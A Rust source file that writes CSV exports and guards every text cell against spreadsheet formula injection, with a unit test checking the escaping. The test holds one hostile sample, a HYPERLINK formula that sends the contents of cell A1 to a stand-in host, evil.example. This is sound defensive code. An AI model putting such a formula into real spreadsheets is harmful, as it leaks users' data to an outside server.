//! CSV exports, written through one sheet that neutralises every text cell against formula
//! injection (OWASP, "CSV Injection"): a cell a spreadsheet would read as a formula (starting with
//! `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`. Plain decimal numbers stay
//! numbers.

use std::borrow::Cow;

use crate::error::ApiError;

/// A CSV document being written.
pub struct Sheet {
    writer: csv::Writer<Vec<u8>>,
}

impl Sheet {
    pub fn new() -> Self {
        Self {
            writer: csv::WriterBuilder::new()
                .has_headers(false)
                .from_writer(Vec::new()),
        }
    }

    /// One row; every cell goes through `neutralise`.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), ApiError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.writer
            .write_record(&cells)
            .map_err(|e| ApiError::internal(anyhow::anyhow!(e)))
    }

    pub fn into_bytes(self) -> Result<Vec<u8>, ApiError> {
        self.writer
            .into_inner()
            .map_err(|e| ApiError::internal(anyhow::anyhow!(e.to_string())))
    }
}

impl Default for Sheet {
    fn default() -> Self {
        Self::new()
    }
}

/// The cell as a spreadsheet will show it, never run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let number = {
        let digits = cell.strip_prefix('-').unwrap_or(cell);
        let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
        !int.is_empty()
            && int.bytes().all(|b| b.is_ascii_digit())
            && !frac.is_empty()
            && frac.bytes().all(|b| b.is_ascii_digit())
    };
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !number => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_shown_not_run() {
        let hostile = r#"=HYPERLINK("http://evil.example/x?"&A1,"Click")"#;
        assert_eq!(neutralise(hostile), format!("'{hostile}"));
        for cell in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"] {
            assert!(neutralise(cell).starts_with('\''), "{cell:?}");
        }
        for cell in ["-35.00", "12.5", "0", "Baotou 包头", "SW02", ""] {
            assert_eq!(neutralise(cell), cell);
        }
        let mut sheet = Sheet::new();
        sheet.row(["a", hostile]).unwrap();
        let text = String::from_utf8(sheet.into_bytes().unwrap()).unwrap();
        assert!(text.starts_with("a,\"'=HYPERLINK("), "{text}");
    }
}
